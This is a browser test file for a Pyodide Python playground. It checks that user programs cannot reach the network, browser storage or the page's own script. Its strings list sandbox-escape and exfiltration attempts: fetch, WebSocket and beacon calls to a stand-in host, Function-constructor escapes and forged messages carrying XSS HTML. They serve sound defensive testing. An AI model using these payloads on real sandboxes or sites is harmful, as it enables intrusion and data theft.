"""What a program tries from the playground's Python: neither the network nor the site's storage may be reached."""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from autolab.views.draw.messages import say

from .test_site import run, status

# Each line is tried by itself, and says what it got; requests to anywhere else are noted by the fixture `opened`.
FOREIGN = "https://elsewhere.example/?secret"
STATEMENTS = f"""\
NAMES {FOREIGN}
js.fetch(URL)
js.XMLHttpRequest.new().open('GET', URL)
js.WebSocket.new('wss://elsewhere.example/')
js.EventSource.new(URL)
js.WebTransport.new(URL)
js.importScripts(URL)
js.Worker.new(URL)
js.Worker.new('worker.js')
js.SharedWorker.new(URL)
js.BroadcastChannel.new('x').postMessage('secret')
js.FontFace.new('x', 'url(' + URL + ')').load()
js.indexedDB.open('taken')
js.caches.open('taken')
js.cookieStore.set('taken', '1')
js.navigator.sendBeacon(URL)
js.navigator.storage.getDirectory()
js.navigator.storageBuckets.open('taken')
js.navigator.locks.request('taken', lambda lock: None)
js.navigator.serviceWorker.register(URL)
js.navigator.gpu.requestAdapter
js.eval('fetch')
js.eval('1 + 1')
js.Function.new('return this')()
js.Function.prototype.constructor.new('return this')()
js.Object.constructor('return this')()
pyodide_js.loadPackage.constructor('return this')()
js.Reflect.construct(js.Function, to_js(['return this']))()
run_js('import("' + URL + '")')
js.URL.createObjectURL(js.Blob.new(to_js(['1'])))
js.Reflect.get(js.self, 'indexedDB').open
js.Object.getOwnPropertyDescriptor(js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self)), 'caches').get
js.Object.getOwnPropertyDescriptor(js.Object.getPrototypeOf(js.navigator), 'storage').get
js.self.constructor.new().fetch(URL)
js.Reflect.construct(js.self.constructor, to_js([])).fetch
js.performance.constructor.fetch.call
pyodide.http.open_url(URL)
urllib.request.urlopen(URL)
socket.create_connection(('elsewhere.example', 443), 1)
pyodide_js.FS.readFile(pyodide_js.FS.createLazyFile('/', 'lazy', URL, True, False) and '/lazy')
pyodide_js.FS.filesystems.IDBFS.indexedDB().open('taken')
"""
LATER = """\
pyodide_js.loadPackage(URL + '.whl')
pyodide_js.loadPackage('micropip')
pyodide.http.pyfetch(URL)
js.setTimeout('fetch(1)', 0)
"""


def program(lines: str) -> str:
    head, *tries = lines.strip().splitlines()
    return f"""\
import js, pyodide_js, pyodide.http, socket, urllib.request
from pyodide.code import run_js
from pyodide.ffi import to_js
URL = {head.removeprefix("NAMES ")!r}
for line in {tries!r}:
    try:
        print('GOT', line, eval(line))
    except BaseException as error:
        print('refused', line, type(error).__name__)
print('END')
"""


def output(page: Page, text: str) -> str:
    run(page, text)
    place = page.locator(".al-play-output pre")
    expect(place).to_contain_text("END")
    return place.inner_text()


STORED = """async () => [
  (await indexedDB.databases()).map(({ name }) => name),
  (await caches.keys()).filter((name) => name !== "autolab-playground"),
  (await Array.fromAsync((await navigator.storage.getDirectory()).keys())),
  document.cookie, localStorage.length,
]"""


@pytest.mark.browser
def test_a_program_reaches_neither_the_network_nor_the_storage(opened: Callable[[str], Page]) -> None:
    page = opened("")
    status(page, "ready")
    told = output(page, program(STATEMENTS))
    assert [line for line in told.splitlines() if line.startswith("GOT")] == []
    assert told.count("refused") == len(STATEMENTS.splitlines()) - 1
    output(
        page, program(f"NAMES {FOREIGN}\n{LATER}")
    )  # these are promises, or return at once: nothing may come of them
    page.wait_for_timeout(1000)
    assert page.evaluate(STORED) == [[], [], [], "", 0]


FORGED = """\
import js, json
from pyodide.ffi import to_js
SCRIPT = "document.title = 'taken'"
MODULE = {"byteLength": 1, "text": SCRIPT}  # a length, as bytes have it
def forge(**message):
    told = {"do": "python", "text": json.dumps(message), "bytes": []}
    js.postMessage(to_js(told, dict_converter=js.Object.fromEntries))
def view(name, **state):
    forge(do="comm_open", model=name, data={"state": state})
    forge(do="view", model=name)
view("text", _esm=SCRIPT)
forge(do="comm_open", model="held", data={"state": {"digest": "0" * 24, "module": MODULE, "sheet": ""}})
view("front", _esm=SCRIPT, _front_end="IPY_MODEL_held", _digest="0" * 24, words={})
forge(do="comm_open", model="own", data={"state": {"digest": "constructor", "module": MODULE, "sheet": ""}})
view("other", _esm=SCRIPT, _front_end="IPY_MODEL_own", _digest="constructor", words={})
forge(do="show", text="picture", html=f"<img src=x onerror={SCRIPT!r}><script>{SCRIPT}</script>"
      "<meta http-equiv=refresh content='0;url=https://elsewhere.example/'><link rel=stylesheet href='https://elsewhere.example/'>"
      "<link rel=preconnect href='https://elsewhere.example/'><base href='https://elsewhere.example/'>"
      "<iframe src='https://elsewhere.example/'></iframe><img src='https://elsewhere.example/'>")
print('END')
"""


@pytest.mark.browser
def test_the_page_imports_no_module_that_a_program_has_written(opened: Callable[[str], Page]) -> None:
    page = opened("")
    status(page, "ready")
    run(page, FORGED)
    expect(page.locator(".al-play-output")).to_contain_text(re.compile("(own views only.*){3}", re.DOTALL))
    expect(page.locator(".al-play-output")).to_contain_text("END")
    page.wait_for_timeout(1000)
    assert page.title() == say("play_title")
    shown = page.frame_locator(".al-play-output iframe").first
    expect(shown.locator("img")).to_have_count(2)
    expect(shown.locator("link, meta, base")).to_have_count(0)
    blocked = "import(URL.createObjectURL(new Blob(['1'], {type: 'text/javascript'}))).then(() => 1, () => 0)"
    assert page.evaluate(blocked) == 0  # and if one got as far, the page's policy
